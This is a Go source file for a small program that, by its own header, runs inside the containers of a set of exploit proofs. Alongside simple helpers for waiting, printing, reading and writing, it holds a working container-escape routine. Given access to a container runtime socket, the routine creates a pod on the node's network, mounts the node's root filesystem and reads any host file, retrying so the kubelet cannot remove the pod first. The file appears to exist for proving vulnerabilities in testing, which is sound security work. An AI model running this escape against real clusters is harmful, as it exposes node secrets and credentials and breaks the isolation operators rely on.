// The program in every container of the exploit proofs, and its image's only file: it waits, reads, writes, and speaks to a container runtime
// as anybody could who has its socket.
package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	cri "k8s.io/cri-api/pkg/apis/runtime/v1"
)

const usage = `program pause                    waits to be stopped
program say WORD...              prints the words
program env NAME                 prints a variable
program read PATH                prints a file
program write PATH TEXT          writes a file
program escape SOCKET IMAGE PATH prints a file of the node, read in a new container that has the node's root; the socket's path, or its host:port`

func main() {
	text, err := run(os.Args[1:])
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Print(text)
}

func run(args []string) (string, error) {
	switch {
	case len(args) == 1 && args[0] == "pause":
		stop := make(chan os.Signal, 1)
		signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
		<-stop
		return "", nil
	case len(args) > 1 && args[0] == "say":
		return strings.Join(args[1:], " "), nil
	case len(args) == 2 && args[0] == "env":
		return os.Getenv(args[1]), nil
	case len(args) == 2 && args[0] == "read":
		text, err := os.ReadFile(args[1])
		return string(text), err
	case len(args) == 3 && args[0] == "write":
		return "", os.WriteFile(args[1], []byte(args[2]), 0o600)
	case len(args) == 4 && args[0] == "escape":
		return escape(args[1], args[2], args[3])
	}
	return "", fmt.Errorf("usage:\n%s", usage)
}

// A kubelet stops what it did not start, within seconds; whoever is after one file needs one moment, and may try again.
func escape(socket, image, path string) (text string, err error) {
	for attempt := range 3 {
		if text, err = readOnNode(socket, image, path, fmt.Sprintf("escape-%d-%d", os.Getpid(), attempt)); err == nil {
			break
		}
	}
	return text, err
}

func readOnNode(socket, image, path, name string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	target := "passthrough:///" + socket
	if filepath.IsAbs(socket) {
		target = "unix://" + socket
	}
	connection, err := grpc.NewClient(target, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return "", err
	}
	defer connection.Close()
	runtime := cri.NewRuntimeServiceClient(connection)

	sandbox := &cri.PodSandboxConfig{
		Metadata: &cri.PodSandboxMetadata{Name: name, Uid: name, Namespace: name},
		Linux: &cri.LinuxPodSandboxConfig{SecurityContext: &cri.LinuxSandboxSecurityContext{
			NamespaceOptions: &cri.NamespaceOption{Network: cri.NamespaceMode_NODE},
		}},
	}
	pod, err := runtime.RunPodSandbox(ctx, &cri.RunPodSandboxRequest{Config: sandbox})
	if err != nil {
		return "", err
	}
	defer runtime.RemovePodSandbox(ctx, &cri.RemovePodSandboxRequest{PodSandboxId: pod.PodSandboxId})
	container, err := runtime.CreateContainer(ctx, &cri.CreateContainerRequest{
		PodSandboxId:  pod.PodSandboxId,
		SandboxConfig: sandbox,
		Config: &cri.ContainerConfig{
			Metadata: &cri.ContainerMetadata{Name: name},
			Image:    &cri.ImageSpec{Image: image},
			Args:     []string{"pause"},
			Mounts:   []*cri.Mount{{HostPath: "/", ContainerPath: "/node", Readonly: true}},
			Linux: &cri.LinuxContainerConfig{SecurityContext: &cri.LinuxContainerSecurityContext{
				NamespaceOptions: &cri.NamespaceOption{Network: cri.NamespaceMode_NODE},
			}},
		},
	})
	if err != nil {
		return "", err
	}
	if _, err := runtime.StartContainer(ctx, &cri.StartContainerRequest{ContainerId: container.ContainerId}); err != nil {
		return "", err
	}
	answer, err := runtime.ExecSync(ctx, &cri.ExecSyncRequest{
		ContainerId: container.ContainerId,
		Cmd:         []string{"/program", "read", filepath.Join("/node", path)},
		Timeout:     10,
	})
	if err != nil {
		return "", err
	}
	if answer.ExitCode != 0 {
		return "", fmt.Errorf("%s", answer.Stderr)
	}
	return string(answer.Stdout), nil
}
